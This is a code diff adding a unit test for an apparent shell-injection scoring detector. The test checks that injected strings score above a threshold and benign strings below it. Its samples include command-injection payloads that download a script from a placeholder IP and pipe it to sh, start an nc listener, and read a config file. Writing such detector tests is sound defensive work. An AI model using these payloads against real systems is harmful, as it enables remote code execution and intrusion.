@@ -264,5 +264,15 @@ TEST(Shell, OtherSignsThatSomethingIsRun) {
   }
 }
 
+TEST(Shell, NothingHidesBehindWhatIsNoCommand) {
+  for (const std::string_view text :
+       {";wget>=a http://192.0.2.9/x.sh -O x", "127.0.0.1|nc>=a -lp 99", ";cat>=a app.conf", "127.0.0.1|DIR&X",
+        ";date>=2026-01-01 -s x;id -u", "x;GET http://192.0.2.9/x|sh"}) {
+    EXPECT_GE(points(text), kThreshold) << text;
+  }
+  for (const std::string_view text : {"echo $((2*3)) prints 6", "docs; calc sheet", "a & calc", "id>=5;size<=7"})
+    EXPECT_LT(points(text), kThreshold) << text;
+}
+
 }  // namespace
 }  // namespace onesec::inspect
